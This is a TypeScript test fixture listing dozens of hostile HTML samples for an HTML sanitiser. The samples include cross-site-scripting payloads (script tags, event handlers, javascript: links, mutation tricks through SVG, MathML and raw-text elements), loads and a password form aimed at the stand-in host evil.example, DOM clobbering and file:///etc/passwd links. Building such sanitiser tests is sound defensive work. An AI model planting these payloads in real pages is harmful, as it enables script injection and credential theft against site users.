/** Markup that tries to run, to load, to navigate or to lie. Written for these tests; each is put into an article as it stands. */
export interface Hostile {
  readonly name: string;
  readonly html: string;
  /** What must be left of it. */
  readonly keeps?: string;
}

export const HOSTILE: readonly Hostile[] = [
  // Scripts.
  { name: 'a script', html: 'a<script>alert(1)</script>b', keeps: 'ab' },
  { name: 'a script in another case', html: '<ScRiPt src=//evil.example/x.js></sCrIpT>' },
  { name: 'a script split by another', html: '<scr<script>x</script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'a handler', html: '<p onclick="alert(1)" onmouseover=alert(2)>hello</p>', keeps: '<p>hello</p>' },
  { name: 'a handler after a slash', html: '<img/src="x"/onerror=alert(1)>' },
  { name: 'a handler with odd white space', html: '<svg\u000conload=alert(1)><p\u000bonclick=x>' },
  { name: 'a handler inside broken quotes', html: '<img alt="a" onerror="b" title=\'"onload=alert(1)\'>' },
  { name: 'a javascript link', html: '<a href="javascript:alert(1)">go</a>', keeps: '>go</a>' },
  { name: 'a javascript link with a tab', html: '<a href="java\tscript:alert(1)">go</a>' },
  { name: 'a javascript link with entities', html: '<a href="&#106;avascript&colon;alert(1)">go</a>' },
  { name: 'a javascript link with a leading control character', html: '<a href="\u0001javascript:alert(1)">go</a>' },
  { name: 'a data link', html: '<a href="data:text/html,<script>alert(1)</script>">go</a>' },
  { name: 'a vbscript link', html: '<a href="vbscript:msgbox(1)">go</a>' },
  { name: 'a blob link', html: '<a href="blob:https://example.com/1">go</a>' },
  { name: 'a script in SVG', html: '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)"><text>go</text></a></svg>' },
  { name: 'an animated attribute', html: '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>go</text></a></svg>' },
  { name: 'a use of another file', html: '<svg><use href="https://evil.example/x.svg#a"/></svg>' },
  { name: 'foreign content', html: '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>' },
  {
    name: 'a script behind MathML',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  {
    name: 'an annotation',
    html: '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></semantics></math>',
  },
  { name: 'a link in MathML', html: '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(2)">x</mi></math>' },
  {
    name: 'an action in MathML',
    html: '<math><maction actiontype="statusline#http://evil.example" href="javascript:alert(1)">x</maction></math>',
  },
  { name: 'raw text that ends early', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'a title that ends early', html: '<title><a title="</title><img src=x onerror=alert(1)>">' },
  { name: 'a textarea that ends early', html: '<textarea><a title="</textarea><img src=x onerror=alert(1)>">' },
  { name: 'an unclosed comment', html: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'a comment for old browsers', html: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->' },
  { name: 'CDATA', html: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
  { name: 'a template', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'a shadow root', html: '<div><template shadowrootmode=open><script>alert(1)</script><p>shadow</p></template></div>' },
  // Loads.
  { name: 'a style sheet', html: '<link rel=stylesheet href=https://evil.example/x.css>' },
  { name: 'an import', html: '<style>@import "https://evil.example/x.css"; p{background:url(https://evil.example/a)}</style>' },
  {
    name: 'a background',
    html: '<p style="background-image:url(https://evil.example/a)">x</p><table background="https://evil.example/b"><tr><td background=//evil.example/c>y',
  },
  { name: 'a picture’s sources', html: '<picture><source srcset="https://evil.example/a.webp 2x"><img alt=x></picture>' },
  {
    name: 'lists of sources',
    html: '<img srcset="https://evil.example/a 1x" lowsrc=https://evil.example/b dynsrc=https://evil.example/c longdesc=https://evil.example/d usemap=#m>',
  },
  {
    name: 'players',
    html: '<video src=https://evil.example/v poster=https://evil.example/p autoplay></video><audio src=https://evil.example/a></audio><track src=https://evil.example/t>',
  },
  {
    name: 'frames',
    html: '<iframe src=https://evil.example srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=https://evil.example></frameset>',
  },
  {
    name: 'objects',
    html: '<object data=https://evil.example/x.swf></object><embed src=https://evil.example/y><applet code=x codebase=https://evil.example></applet>',
  },
  { name: 'an image input', html: '<input type=image src=https://evil.example/i>' },
  { name: 'a ping', html: '<a href="https://example.com/a" ping="https://evil.example/p">go</a>' },
  { name: 'preloads', html: '<link rel=preload as=image href=https://evil.example/i><link rel=dns-prefetch href=//evil.example>' },
  {
    name: 'citations',
    html: '<blockquote cite="https://evil.example/c">x</blockquote><q cite=https://evil.example/q>y</q>',
    keeps: '<blockquote>x</blockquote>',
  },
  {
    name: 'an attribution',
    html: '<img src=/a.png attributionsrc=https://evil.example/r><a href=/b attributionsrc=https://evil.example/s>go</a>',
  },
  // Navigation and pretence.
  { name: 'a refresh', html: '<meta http-equiv=refresh content="0;url=https://evil.example">' },
  { name: 'a base', html: '<base href="https://evil.example/">' },
  {
    name: 'a form',
    html: '<form action=https://evil.example/f><input name=password type=password><button formaction=https://evil.example/g>Log in</button></form>',
  },
  { name: 'a target', html: '<a href="https://example.com/a" target="_top" download>go</a>' },
  { name: 'an image map', html: '<map name=m><area shape=rect coords=0,0,999,999 href="https://evil.example"></map>' },
  {
    name: 'a layer over the window',
    html: '<div style="position:fixed;inset:0;z-index:9999"><a href="https://example.com/a">Update now</a></div>',
  },
  { name: 'a class of ours', html: '<div class="toolbar button" data-command="delete">x</div>' },
  { name: 'an id of ours', html: '<p id="root">x</p><img name=body><a id="document" name="getElementById">y</a>', keeps: 'id="ref-root"' },
  { name: 'editing', html: '<div contenteditable autofocus tabindex=1 accesskey=x draggable=true popover>x</div>' },
  {
    name: 'custom elements',
    html: '<x-evil is=x onclick=alert(1)>x</x-evil><slot name=a></slot><dialog open>y</dialog><portal src=https://evil.example></portal>',
  },
  { name: 'a processing instruction', html: '<?xml-stylesheet href="https://evil.example/x.xsl"?>' },
  { name: 'a null byte', html: '<scr\u0000ipt>alert(1)</scr\u0000ipt><img src=x on\u0000error=alert(1)>' },
  { name: 'an image reference of ours', html: '<img src="offprint-image:0"><img src="images/ab/secret.png" onerror=x>' },
  { name: 'a file', html: '<img src="file:///etc/passwd"><a href="file:///etc/passwd">go</a>' },
];
